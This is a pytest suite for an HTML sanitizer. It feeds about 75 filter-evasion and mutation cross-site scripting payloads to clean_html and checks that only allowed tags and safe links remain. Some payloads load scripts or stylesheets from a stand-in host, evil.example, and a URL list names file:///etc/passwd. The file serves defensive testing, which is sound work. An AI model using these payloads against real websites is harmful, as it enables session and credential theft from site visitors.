import re
from html.parser import HTMLParser

import pytest

from stories.sanitize import clean_html

ALLOWED_TAGS = {"p", "h2", "h3", "h4", "strong", "em", "a", "ul", "ol", "li", "blockquote", "hr", "br"}
ALLOWED_SCHEMES = {"http", "https", "mailto", "tel"}
EXTERNAL_REL = "noopener noreferrer"
OWN_TAG_RE = re.compile(rf"</?({'|'.join(ALLOWED_TAGS)})[\s>]")

# Filter-evasion payloads in the style of OWASP's XSS cheat sheet, plus mutation-XSS and
# parser-confusion cases from DOMPurify's and Ammonia's bug reports.
HOSTILE_INPUTS = {
    "script": "<script>alert(1)</script>",
    "script-src": '<SCRIPT SRC="https://evil.example/xss.js"></SCRIPT>',
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-javascript-src": "<IMG SRC=\"javascript:alert('XSS');\">",
    "img-no-quotes-backticks": "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "img-eval-src": "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text x="20">XSS</text></a></svg>',
    "svg-animate": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg-foreign-iframe": '<svg><foreignObject><iframe src="javascript:alert(1)">',
    "svg-style-breakout": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "href-mixed-case": '<a href="jAvAsCrIpT:alert(1)">x</a>',
    "href-entity-colon": '<a href="javascript&#58;alert(1)">x</a>',
    "href-named-colon": "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    "href-hex-entity": '<a href="&#x6A;avascript:alert(1)">x</a>',
    "href-decimal-entities": ('<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>'),
    "href-padded-entities": (
        '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
        '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>'
    ),
    "href-entity-no-semicolon": '<a href="&#106avascript:alert(1)">x</a>',
    "href-tab": '<a href="jav\tascript:alert(1)">x</a>',
    "href-newline": '<a href="jav\nascript:alert(1)">x</a>',
    "href-tab-entity": '<a href="jav&#x09;ascript:alert(1)">x</a>',
    "href-newline-entity": '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    "href-cr-entity": '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    "href-named-tab": '<a href="ja&Tab;vascript:alert(1)">x</a>',
    "href-named-newline": '<a href="ja&NewLine;vascript:alert(1)">x</a>',
    "href-leading-controls": '<a href=" &#14;  javascript:alert(1)">x</a>',
    "href-leading-null": '<a href="\x00javascript:alert(1)">x</a>',
    "href-inner-null": '<a href="java\x00script:alert(1)">x</a>',
    "href-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "href-data-base64": ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    "href-data-upper": '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    "href-unquoted-attribute-at-eof": '<a href="javascript:alert(1)"',
    "extra-attributes": (
        '<a href="/ok" onmouseover="alert(1)" class="c" id="i" style="color:red" '
        'target="_blank" rel="opener" ping="https://evil.example">x</a>'
    ),
    "xlink-on-html-a": '<a href="https://example.com" xlink:href="javascript:alert(1)">x</a>',
    "title-breakout": '<a href="/x" title=\'"><script>alert(1)</script>\'>x</a>',
    "title-quotes": '<a href="/x" title="&quot; onmouseover=&quot;alert(1)">x</a>',
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frameset": '<frameset><frame src="javascript:alert(1)"></frameset>',
    "object": '<object data="javascript:alert(1)"></object>',
    "object-scriptlet": '<object type="text/x-scriptlet" data="https://evil.example/x">',
    "embed": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "style-import": "<style>@import 'https://evil.example/xss.css';</style>",
    "style-attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "style-expression": '<div style="width: expression(alert(1));">x</div>',
    "math-href": '<math href="javascript:alert(1)">CLICK</math>',
    "math-mglyph": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-form-nesting": ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    "base": '<base href="javascript:alert(1)//">',
    "form-action": '<form action="javascript:alert(1)"><input type=submit></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input-formaction": '<form><input formaction="javascript:alert(1)" type=submit>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "link-stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "onclick": '<p onclick="alert(1)">x</p>',
    "body-onload": "<body onload=alert(1)>x",
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "video-source": '<video><source onerror="alert(1)"></video>',
    "isindex": "<isindex type=image src=1 onerror=alert(1)>",
    "table-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "split-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "double-open": "<<script>alert(1);//<</script>",
    "unclosed-img": '<img src="x" onerror="alert(1)"',
    "comment-then-script": "<!-- --><script>alert(1)</script>",
    "comment-in-attribute": '<!--<img src="--><img src=x onerror=alert(1)//">',
    "conditional-comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "xmp-mxss": '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "textarea-mxss": '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    "template": "<template><script>alert(1)</script></template>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "attribute-breakout": '"><script>alert(1)</script>',
    "p-title": '<p title="<script>alert(1)</script>">x</p>',
    "deep-nesting": "<div>" * 500 + "<a href='javascript:alert(1)'>x</a>",
}

# Code and embedded documents go with their content, not just their tags.
DROPPED_CONTENT = [
    "script",
    "svg-script",
    "iframe-srcdoc",
    "style-import",
    "comment-then-script",
    "conditional-comment",
    "template",
]


class _OutputChecker(HTMLParser):
    """Collects everything in clean_html()'s output that a browser could act on."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"element <{tag}>")
        allowed = {"href", "title", "rel"} if tag == "a" else set()
        for name, value in attrs:
            if name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}>")
            elif name == "href" and url_scheme(value) not in ALLOWED_SCHEMES | {None}:
                self.problems.append(f"href {value!r}")
            elif name == "rel" and value != EXTERNAL_REL:
                self.problems.append(f"rel {value!r}")

    def handle_endtag(self, tag):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"end tag </{tag}>")

    def handle_comment(self, data):
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data):
        self.problems.append(f"declaration {data!r}")


def url_scheme(url):
    """The scheme a browser would see in an (already unescaped) URL; None if relative."""
    url = re.sub(r"[\t\n\r]", "", url).strip("".join(map(chr, range(0x21))))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.\-]*):", url)
    return match[1].lower() if match else None


def assert_safe(output):
    checker = _OutputChecker()
    checker.feed(output)
    checker.close()
    assert checker.problems == [], output
    # A browser-independent check too: every "<" left must start one of our own tags,
    # since text and attribute values have theirs escaped.
    for match in re.finditer("<", output):
        assert OWN_TAG_RE.match(output, match.start()), output


@pytest.mark.parametrize("payload", HOSTILE_INPUTS.values(), ids=HOSTILE_INPUTS.keys())
def test_hostile_input_leaves_only_allowed_markup(payload):
    assert_safe(clean_html(payload))


@pytest.mark.parametrize("name", DROPPED_CONTENT)
def test_code_is_removed_with_its_content(name):
    assert "alert" not in clean_html(HOSTILE_INPUTS[name])


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "JAVASCRIPT:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "file:///etc/passwd",
        "ftp://example.com/file",
    ],
)
def test_link_with_disallowed_scheme_keeps_only_its_text(url):
    assert clean_html(f'<p><a href="{url}">Read more</a></p>') == "<p>Read more</p>"


def test_output_checker_catches_what_it_should():
    # Guards the guard: each of these must fail assert_safe().
    for unsafe in [
        "<img src=x>",
        '<p class="x">a</p>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="&#x6A;avascript:alert(1)">x</a>',
        '<a href="java&#9;script:alert(1)">x</a>',
        '<a href=" \x01data:text/html,x">x</a>',
        '<a rel="opener" href="/">x</a>',
        "<!-- x -->",
        '<p title="<script>">',
    ]:
        with pytest.raises(AssertionError):
            assert_safe(unsafe)
